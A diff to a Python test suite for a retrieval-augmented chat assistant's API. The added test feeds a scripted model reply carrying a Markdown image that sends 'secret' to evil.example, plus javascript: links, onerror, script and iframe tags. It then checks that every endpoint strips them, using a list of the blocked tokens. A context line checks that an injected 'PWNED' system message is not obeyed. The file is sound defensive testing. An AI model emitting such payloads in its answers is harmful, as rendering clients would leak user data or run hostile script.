@@ -104,6 +104,32 @@ def test_a_chat_model_answer_has_the_same_numbers_streamed_or_not(shipped_settin
     assert "PWNED" not in sent  # system messages are not obeyed, so never forwarded
 
 
+HOSTILE = (
+    "A structured pruning approach prunes spiking neural networks ![x](http://evil.example/?leak=secret) [1]. "
+    "See [the code](javascript:alert(1)) <img src=x onerror=alert(1)> for details [1]. <script>alert(2)</script>"
+    "<iframe src=\"http://evil.example\"></iframe>It regrows kernels during training [1]."
+)
+
+
+@pytest.mark.parametrize("reading", [False, True])
+def test_a_models_images_links_and_html_never_reach_a_client(shipped_settings: Settings, reading: bool) -> None:
+    """Clients that render Markdown (Open WebUI, LibreChat) would fetch the image or offer the link: none arrives."""
+    reply = json.dumps({"sentences": [], "verdict": "answers", "missing": "", "answer": HOSTILE}) if reading else HOSTILE
+    backend = ScriptedServer([Behaviour(text=reply)]).start()
+    try:
+        settings = shipped_settings.with_overrides(llm_provider="openai-compatible", openai_base_url=backend.base_url, collection=INDEX,
+                                                   reranker="none", reading=reading)
+        with api_server(Assistant(settings)) as base:
+            whole = client(base).chat.completions.create(model=INDEX, messages=[{"role": "user", "content": QUESTION}])
+            text, _ = streamed(client(base), QUESTION)
+            scripted = httpx.post(f"{base}/api/ask", json={"question": QUESTION}, timeout=60).json()["text"]
+    finally:
+        backend.stop()
+    for content in (whole.choices[0].message.content, text, scripted):
+        assert "pruning approach prunes spiking neural networks" in content
+        assert not any(bad in content.lower() for bad in ("evil.example", "javascript:", "<img", "<script", "<iframe", "onerror", "!["))
+
+
 def test_abstention_and_partial_answers_are_flagged(url: str) -> None:
     off_topic = client(url).chat.completions.create(model=INDEX, messages=[{"role": "user", "content": "What is the best recipe for sourdough bread?"}])
     assert off_topic.model_extra["abstained"] is True and off_topic.model_extra["citations"] == []
